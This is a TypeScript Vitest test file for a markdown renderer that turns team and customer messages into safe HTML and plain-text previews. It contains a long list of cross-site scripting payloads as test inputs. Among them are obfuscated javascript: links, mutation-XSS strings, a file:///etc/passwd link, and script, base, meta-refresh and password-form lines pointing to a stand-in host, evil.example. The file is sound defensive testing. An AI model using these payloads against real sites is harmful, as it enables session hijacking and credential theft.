import sanitize from 'sanitize-html'
import { describe, expect, test } from 'vitest'
import { toHtml, toPreview } from '../server/markdown.ts'
import { processorTime } from './support/processor-time.ts'

const tags = ['p', 'br', 'a', 'em', 'strong', 's', 'code', 'pre', 'ul', 'ol', 'li', 'blockquote']
const attributes: Record<string, string[]> = { a: ['href', 'rel', 'target'], ol: ['start'] }

/** Every element of the HTML with its attributes, as a parser sees them: not as the code under test does. */
function elements(html: string) {
  const found: { tag: string; attributes: Record<string, string> }[] = []
  const note = (tag: string, attributes: Record<string, string>) => {
    found.push({ tag, attributes })
    return { tagName: tag, attribs: attributes }
  }
  sanitize(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    transformTags: { '*': note },
  })
  return found
}

/** Fails when anything but the allowed elements, attributes and addresses is in the HTML. */
function expectHarmless(html: string) {
  for (const { tag, attributes: given } of elements(html)) {
    expect(tags, html).toContain(tag)
    for (const name of Object.keys(given)) expect(attributes[tag] ?? [], html).toContain(name)
    if (tag !== 'a') continue
    expect(given.rel, html).toBe('noopener noreferrer nofollow')
    expect(given.target, html).toBe('_blank')
    if (given.href !== undefined) expect(given.href, html).toMatch(/^(https?:\/\/|mailto:)/i)
  }
}

const hrefs = (html: string) => elements(html).flatMap(({ attributes }) => attributes.href ?? [])

describe('nothing harmful comes through', () => {
  test.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href=x onclick=alert(1)>a</a>',
    '<p style="background:url(//evil.example)">a</p>',
    '<style>*{display:none}</style>',
    '<base href="//evil.example">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<form action=//evil.example><input name=password></form>',
    '<!--<img src="--><img src=x onerror=alert(1)>">',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '</p></div><script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</script>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '`<img src=x onerror=alert(1)>`',
    '```html"onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    '    <script>alert(1)</script>',
    '> <script>alert(1)</script>',
    '- <img src=x onerror=alert(1)>',
    '1. <svg onload=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
    '&#x3C;script&#x3E;alert(1)',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](jaVa\tscript:alert(1))',
    '[a](java&#9;script:alert(1))',
    '[a](java&Tab;script&colon;alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](\u0001javascript:alert(1))',
    '[a](<java\nscript:alert(1)>)',
    '[a](<javascript:alert(1)>)',
    '[a](%6Aavascript:alert(1))',
    '[a](vbscript:msgbox(1))',
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[a](data:image/svg+xml,<svg/onload=alert(1)>)',
    '[a](file:///etc/passwd)',
    '[a](blob:https://evil.example/1)',
    '[a](//evil.example)',
    '[a](\\\\evil.example)',
    '[a](/\\evil.example)',
    '[a](\t//evil.example)',
    '[a](x-apple-data://1)',
    '[a][1]\n\n[1]: javascript:alert(1)',
    '[a]: javascript:alert(1) "b"\n[a]',
    '<javascript:alert(1)>',
    '<data:text/html,a>',
    '[a](https://x.example "onmouseover=alert(1)")',
    '[a](https://x.example"onmouseover="alert(1))',
    `[a](https://x.example'onmouseover='alert(1))`,
    '[<img src=x onerror=alert(1)>](https://x.example)',
    '[![a](https://evil.example/pixel.png)](https://x.example)',
    '![a](https://evil.example/pixel.png)',
    '![a](javascript:alert(1))',
    '![a][1]\n\n[1]: https://evil.example/pixel.png',
    'https://x.example/"onmouseover="alert(1)',
    'https://x.example/<script>alert(1)</script>',
    'javascript://x.example/%0aalert(1)',
    '**<b onmouseover=alert(1)>**',
    '# <script>alert(1)</script>',
    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
    '\u202e<script>alert(1)</script>',
    '<\u0000script>alert(1)</script>',
    '<script\u2028>alert(1)</script>',
    '\\<script>alert(1)\\</script>',
    'constructor __proto__ [a](constructor) [__proto__]',
  ])('%j', (text) => {
    for (const author of ['team', 'customer'] as const) {
      expectHarmless(toHtml(text, author))
      expectHarmless(toHtml(`before ${text} after`, author))
      expectHarmless(toHtml(`${text}\n\n${text}`, author))
    }
  })

  test('however deep it is nested, and without taking long', async () => {
    for (const piece of [
      '> ',
      '- ',
      '[',
      '![',
      '*a ',
      '`',
      '<b>',
      '[a](',
      '&#',
      '**a_',
      '~~',
      '1. ',
      'https://a.b/(',
      '\t',
      '~~~x\n',
      '```\n~~~\n',
    ]) {
      for (const author of ['team', 'customer'] as const) {
        const long = piece.repeat(20_000)
        const spent = await processorTime(() => {
          expectHarmless(toHtml(long.slice(0, 20_000), author))
          expectHarmless(toHtml(`${long.slice(0, 19_000)}<script>alert(1)</script>`, author))
        })
        expect(spent, `milliseconds of work for ${piece}`).toBeLessThan(20_000)
      }
    }
  })
})

describe('what the team writes is shown as they mean it', () => {
  test.each([
    ['two\nlines', '<p>two<br />\nlines</p>'],
    ['two\n\nparagraphs', '<p>two</p>\n<p>paragraphs</p>'],
    ['*this* and **that** and ~~not~~', '<p><em>this</em> and <strong>that</strong> and <s>not</s></p>'],
    ['a < b && c > d', '<p>a &lt; b &amp;&amp; c &gt; d</p>'],
    ['<b>bold</b>', '<p>&lt;b&gt;bold&lt;/b&gt;</p>'],
    ['`<b>`', '<p><code>&lt;b&gt;</code></p>'],
    ['- one\n- two', '<ul>\n<li>one</li>\n<li>two</li>\n</ul>'],
    ['3. three\n4. four', '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>'],
    ['> said', '<blockquote>\n<p>said</p>\n</blockquote>'],
    ['# no heading', '<p># no heading</p>'],
  ])('%j', (text, html) => {
    expect(toHtml(text, 'team')).toBe(html)
  })

  test.each([
    ['[a](https://acme.com/?a=1&b=2)', 'https://acme.com/?a=1&amp;b=2'],
    ['see https://acme.com/path.', 'https://acme.com/path'],
    ['<https://acme.com>', 'https://acme.com'],
    ['help@acme.com', 'mailto:help@acme.com'],
  ])('%s is a link', (text, href) => {
    expect(hrefs(toHtml(text, 'team'))).toEqual([href.replace('&amp;', '&')])
    expectHarmless(toHtml(text, 'team'))
  })
})

describe('what a customer writes is shown as written', () => {
  test.each([
    ['two\nlines', '<p>two<br />\nlines</p>'],
    ['two\r\n\r\nparagraphs', '<p>two</p>\n<p>paragraphs</p>'],
    ['a\n\n\nb', '<p>a</p>\n<p><br />\nb</p>'],
    ['__init__.py and *new* and ~~old~~', '<p>__init__.py and *new* and ~~old~~</p>'],
    ['C:\\temp\\*new*', '<p>C:\\temp\\*new*</p>'],
    ['2 * 3 * 4, `x`, #1', '<p>2 * 3 * 4, `x`, #1</p>'],
    ['- one\n- two', '<p>- one<br />\n- two</p>'],
    ['3. three\n1. one', '<p>3. three<br />\n1. one</p>'],
    ['> said', '<p>&gt; said</p>'],
    ['&amp; &lt;b&gt; \\<b>', '<p>&amp;amp; &amp;lt;b&amp;gt; \\&lt;b&gt;</p>'],
    [
      'if x:\n    y  =  1\n\tz',
      '<p>if x:<br />\n\u00a0\u00a0\u00a0\u00a0y\u00a0 =\u00a0 1<br />\n\u00a0\u00a0\u00a0\u00a0z</p>',
    ],
    ['    code?', '<p>\u00a0\u00a0\u00a0\u00a0code?</p>'],
    [
      'see\n```js\n<b>  *x*\n```\nthere',
      '<p>see</p>\n<pre><code>&lt;b&gt;  *x*\n</code></pre>\n<p>there</p>',
    ],
    ['~~~\n```\n~~~', '<pre><code>```\n</code></pre>'],
    ['```\nnever closed', '<p>```<br />\nnever closed</p>'],
    ['Title\n=====\n---', '<p>Title<br />\n=====<br />\n---</p>'],
    ['\n\n  \n', ''],
  ])('%j', (text, html) => {
    expect(toHtml(text, 'customer')).toBe(html)
  })

  test.each([
    ['see https://acme.com/a_b_c?x=*1*&y=2.', 'https://acme.com/a_b_c?x=*1*&y=2'],
    ['[docs](https://acme.com/docs)', 'https://acme.com/docs'],
    ['<https://acme.com>', 'https://acme.com'],
    ['help@acme.com', 'mailto:help@acme.com'],
  ])('%s is a link', (text, href) => {
    const html = toHtml(text, 'customer')
    expect(hrefs(html)).toEqual([href])
    expect(sanitize(html, { allowedTags: [] })).toBe(
      sanitize(text.replaceAll('<', '&lt;'), { allowedTags: [] }),
    )
  })

  test('in its preview, too', () => {
    expect(toPreview('__init__ in  C:\\temp\\*new* &amp;', 'customer')).toBe(
      '__init__ in C:\\temp\\*new* &amp;',
    )
    expect(toPreview('```\ncode\n```', 'customer')).toBe('code')
    expect(toPreview('🎟'.repeat(200), 'customer').isWellFormed()).toBe(true)
  })
})

describe('a preview', () => {
  test.each([
    ['*one* **two** `three`', 'one two three'],
    ['one\n\ntwo\r\n  three', 'one two three'],
    ['[text](https://acme.com)', 'text'],
    ['- one\n- two', 'one two'],
    ['a < b && "c" > \'d\'', 'a < b && "c" > \'d\''],
    ['<script>alert(1)</script>', '<script>alert(1)</script>'],
    ['&lt;b&gt; &amp;lt;', '<b> &lt;'],
    ['```\ncode\n```', 'code'],
    ['   ', ''],
    ['![picture](https://evil.example/x.png)', '!picture'],
  ])('of %j is the plain text %j', (text, plain) => {
    expect(toPreview(text, 'team')).toBe(plain)
  })

  test('is one line of at most so many characters, and quick for the longest message', async () => {
    expect(toPreview('a'.repeat(140), 'team')).toBe('a'.repeat(140))
    expect(toPreview('a'.repeat(141), 'team')).toBe(`${'a'.repeat(139)}…`)
    const text = '[a](https://acme.com) * '.repeat(20_000)
    expect(toPreview(text, 'team').length).toBeLessThanOrEqual(140)
    expect(await processorTime(() => toPreview(text, 'team'))).toBeLessThan(20_000)
  })

  test('does not cut a character in two', () => {
    expect(toPreview('🎟'.repeat(200), 'team').isWellFormed()).toBe(true)
    expect(toPreview(`a${'🎟'.repeat(200)}`, 'team').isWellFormed()).toBe(true)
  })
})
